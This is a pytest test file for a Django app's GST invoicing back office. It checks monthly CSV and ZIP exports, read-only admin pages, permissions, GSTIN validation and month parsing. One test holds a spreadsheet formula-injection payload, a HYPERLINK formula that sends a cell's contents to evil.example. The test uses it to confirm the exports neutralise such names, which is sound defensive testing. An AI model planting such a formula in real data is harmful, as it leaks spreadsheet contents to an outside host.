"""The accountant's side: read-only lists by month, the PDF, the month's CSV exports (which
tie out to the month's confirmed payments less its refunds), and the seller's GSTIN checked
in site settings."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from decimal import Decimal

import pytest
import time_machine
from django.contrib.auth.models import Permission
from django.test import Client

from accounts.models import User
from catalog.models import Course
from catalog.selectors import site_settings_row
from core.tests.admin_pages import links_to
from enrolments import services
from enrolments.models import Enrolment
from invoices.models import CreditNote, Invoice
from invoices.tests.conftest import BUYER_GSTIN, confirmed

pytestmark = pytest.mark.django_db
EXPORT = "/admin/invoices/invoice/export/"
MAY = datetime(2026, 5, 10, 6, 0, tzinfo=UTC)
JUNE = datetime(2026, 6, 2, 6, 0, tzinfo=UTC)


def rows(response: object) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    return list(csv.reader(io.StringIO(content)))


def export(client: Client, kind: str, month: str = "2026-05") -> list[list[str]]:
    response = client.get(EXPORT, {"month": month, "kind": kind})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("text/csv")
    return rows(response)


@pytest.fixture
def may_sales(seller: None, course: Course, other_course: Course, staff: User) -> dict:
    """May: four payments (Karnataka, Maharashtra, a business in Maharashtra, no state), one
    of them refunded in May; June: one more payment and a refund of a May payment."""
    with time_machine.travel(MAY, tick=False):
        a = confirmed(course, phone="98111 00031", state="29")
        b = confirmed(other_course, phone="98111 00032", state="27")
        c = confirmed(
            course, phone="98111 00033", gstin=BUYER_GSTIN, business_name="Acme Learning LLP"
        )
        d = confirmed(other_course, phone="98111 00034")
        services.enrolment_reject(enrolment_id=b.pk, by=staff, reason="Refunded")
    with time_machine.travel(JUNE, tick=False):
        confirmed(course, phone="98111 00035")
        services.enrolment_reject(enrolment_id=a.pk, by=staff, reason="Refunded")
    return {"a": a, "b": b, "c": c, "d": d}


def paise(text: str) -> int:
    return round(Decimal(text) * 100)


def test_the_export_ties_out_to_the_months_payments_less_refunds(
    may_sales: dict, back_office_client: Client
) -> None:
    confirmed_in_may = sum(e.amount for e in may_sales.values()) * 100
    refunded_in_may = may_sales["b"].amount * 100

    register = export(back_office_client, "register")
    assert register[0][:3] == ["Date", "Number", "Document"]
    body, total = register[1:-1], register[-1]
    assert len(body) == 5  # four invoices, one credit note
    assert total[0] == "Total"
    assert paise(total[-1]) == confirmed_in_may - refunded_in_may
    assert sum(paise(r[-1]) for r in body) == paise(total[-1])
    # Taxable value and taxes add up to the total on every line and in the total.
    for line in [*body, total]:
        assert sum(paise(v) for v in line[11:15]) == paise(line[15])

    b2b = export(back_office_client, "b2b")
    b2cs = export(back_office_client, "b2cs")
    hsn = export(back_office_client, "hsn")
    cdnr = export(back_office_client, "cdnr")
    assert b2b[0][0] == "GSTIN/UIN of Recipient" and len(b2b) == 2
    assert b2b[1][0] == BUYER_GSTIN and b2b[1][5] == "27-Maharashtra" and b2b[1][6] == "N"
    assert len(cdnr) == 1  # the refund in May was to a consumer
    # B2C small: by place of supply and rate, net of the month's consumer credit notes.
    places = {line[1]: paise(line[4]) for line in b2cs[1:]}
    assert set(places) == {"29-Karnataka", "27-Maharashtra"}
    assert places["27-Maharashtra"] == 0  # its only sale was refunded in the month
    taxable_total = paise(total[11])
    assert sum(places.values()) + paise(b2b[1][11]) == taxable_total
    # The SAC summary: one line, net, equal to the register.
    [header, line] = hsn
    assert header[0] == "HSN" and line[0] == "999293" and line[2] == "NA"
    assert paise(line[4]) == paise(total[-1]) and paise(line[6]) == taxable_total


def test_the_next_month_holds_its_own_documents(
    may_sales: dict, back_office_client: Client
) -> None:
    register = export(back_office_client, "register", "2026-06")
    assert [r[2] for r in register[1:-1]] == ["Tax invoice", "Credit note"]
    june = Invoice.objects.get(date__month=6).total_paise
    refund = CreditNote.objects.get(date__month=6).total_paise
    assert paise(register[-1][-1]) == june - refund


def test_the_export_form_refuses_a_bad_month(seller: None, back_office_client: Client) -> None:
    response = back_office_client.get(EXPORT, {"month": "2026-13", "kind": "register"})
    assert response.status_code == 400
    assert "Choose a month, e.g. Dec 2026" in response.content.decode()
    response = back_office_client.get(EXPORT, {"month": "2026-05", "kind": "x"})
    assert response.status_code == 400
    assert back_office_client.get(EXPORT).status_code == 200


def test_the_lists_are_read_only_and_filter_by_month(
    may_sales: dict, back_office_client: Client
) -> None:
    invoice = Invoice.objects.get(enrolment=may_sales["c"])
    listing = back_office_client.get(
        "/admin/invoices/invoice/", {"date__year": "2026", "date__month": "5"}
    )
    assert listing.status_code == 200
    page = listing.content.decode()
    assert invoice.number in page and "/000005" not in page
    change = back_office_client.get(f"/admin/invoices/invoice/{invoice.pk}/change/")
    assert change.status_code == 200
    assert 'name="_save"' not in change.content.decode()
    assert (
        back_office_client.post(f"/admin/invoices/invoice/{invoice.pk}/change/").status_code == 403
    )
    assert (
        back_office_client.get(f"/admin/invoices/invoice/{invoice.pk}/delete/").status_code == 403
    )
    assert back_office_client.get("/admin/invoices/invoice/add/").status_code == 403
    pdf = back_office_client.get(f"/admin/invoices/invoice/{invoice.pk}/pdf/")
    assert pdf.status_code == 200 and b"".join(pdf.streaming_content).startswith(b"%PDF")
    notes = back_office_client.get("/admin/invoices/creditnote/").content.decode()
    assert CreditNote.objects.first().number in notes  # type: ignore[union-attr]


def test_amounts_read_as_rupees_with_indian_grouping_and_the_buyer_opens_the_invoice(
    seller: None, other_course: Course, back_office_client: Client
) -> None:
    """₹4,499 in Karnataka at 18 %: ₹3,812.72 taxable, ₹343.14 CGST and SGST each."""
    with time_machine.travel(MAY, tick=False):
        invoice = Invoice.objects.get(enrolment=confirmed(other_course, state="29"))
    url = f"/admin/invoices/invoice/{invoice.pk}/change/"

    listing = back_office_client.get("/admin/invoices/invoice/").content.decode()
    change = back_office_client.get(url).content.decode()

    assert links_to(listing, url, "Kiran Friend") and links_to(listing, url, invoice.number)
    for page in (listing, change):
        assert "₹4,499" in page and "₹3,812.72" in page
        assert "₹4,499.00" not in page and "449900" not in page
    assert "₹686.28" in listing  # the tax
    assert change.count("₹343.14") == 2 and "18%" in change and "29-Karnataka" in change
    assert "10 May 2026, 11:30" in change  # issued at, India time


def test_staff_without_the_view_permission_see_nothing(may_sales: dict, staff: User) -> None:
    client = Client()
    client.force_login(staff)
    invoice = Invoice.objects.first()
    assert client.get(EXPORT, {"month": "2026-05", "kind": "register"}).status_code == 403
    assert client.get(f"/admin/invoices/invoice/{invoice.pk}/pdf/").status_code == 403  # type: ignore[union-attr]
    staff.user_permissions.add(
        Permission.objects.get(codename="view_invoice"),
        Permission.objects.get(codename="view_creditnote"),
    )
    viewer = Client()
    viewer.force_login(User.objects.get(pk=staff.pk))
    assert viewer.get(EXPORT, {"month": "2026-05", "kind": "register"}).status_code == 200


def test_site_settings_refuse_a_gstin_of_another_state_or_a_bad_check_digit(
    seller: None, back_office_client: Client
) -> None:
    url = "/admin/catalog/sitesettings/1/change/"
    form = back_office_client.get(url).context["adminform"].form
    data = {k: v for k, v in form.initial.items() if v is not None}
    data.update({"state": "29", "gstin": BUYER_GSTIN})
    response = back_office_client.post(url, data)
    assert response.status_code == 200
    assert "registered in 27-Maharashtra" in response.content.decode()
    data.update({"gstin": "29AAGCB7383J1Z5"})
    assert "check digit" in back_office_client.post(url, data).content.decode()
    assert site_settings_row().gstin == "29AAGCB7383J1Z4"
    assert Enrolment.objects.count() == 0


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def test_a_buyer_named_like_a_formula_is_written_as_text_in_every_export(
    seller: None, course: Course, staff: User, back_office_client: Client
) -> None:
    """Issue 40.5: such a name was a live formula in the register, b2b and cdnr files."""
    with time_machine.travel(MAY, tick=False):
        business = confirmed(
            course, phone="98111 00041", name=EVIL, gstin=BUYER_GSTIN, business_name=EVIL
        )
        confirmed(course, phone="98111 00042", name="-Ravi")
        services.enrolment_reject(enrolment_id=business.pk, by=staff, reason="Refunded")

    register = export(back_office_client, "register")
    names = {line[5] for line in register[1:-1]} | {line[6] for line in register[1:-1]}
    assert f"'{EVIL}" in names and "'-Ravi" in names and EVIL not in names
    # Amounts stay numbers: the credit note's negative total is not neutralised.
    [note] = [line for line in register[1:-1] if line[2] == "Credit note"]
    assert note[-1].startswith("-") and Decimal(note[-1]) < 0
    [b2b] = export(back_office_client, "b2b")[1:]
    assert b2b[1] == f"'{EVIL}"
    [cdnr] = export(back_office_client, "cdnr")[1:]
    assert cdnr[1] == f"'{EVIL}"


def test_a_month_may_be_picked_or_typed_as_staff_say_it(
    may_sales: dict, back_office_client: Client
) -> None:
    """Issue 41 item 10: "May 2026" is not refused; the picker's 2026-05 works as before."""
    picked = export(back_office_client, "register", "2026-05")
    for typed in ("May 2026", "may 2026", "05/2026", " 2026-05 "):
        assert export(back_office_client, "register", typed) == picked
    for wrong in ("Mayo 2026", "2026", "13/2026", "2026-05-01", "x" * 10_000):
        response = back_office_client.get(EXPORT, {"month": wrong, "kind": "register"})
        assert response.status_code == 400, wrong


def test_the_gst_return_is_one_download_of_every_file(
    may_sales: dict, back_office_client: Client
) -> None:
    response = back_office_client.get(EXPORT, {"month": "2026-05", "kind": "all"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert 'filename="gst-2026-05.zip"' in response["Content-Disposition"]
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = archive.namelist()
    assert names == [f"{kind}-2026-05.csv" for kind in ("register", "b2b", "b2cs", "cdnr", "hsn")]
    for name in names:
        kind = name.removesuffix("-2026-05.csv")
        single = export(back_office_client, kind)
        assert list(csv.reader(io.StringIO(archive.read(name).decode()))) == single
    # The form lists the month with a one-click link to the archive.
    form = back_office_client.get(EXPORT).content.decode()
    assert "?month=2026-05&amp;kind=all" in form and "May 2026: all files (ZIP)" in form
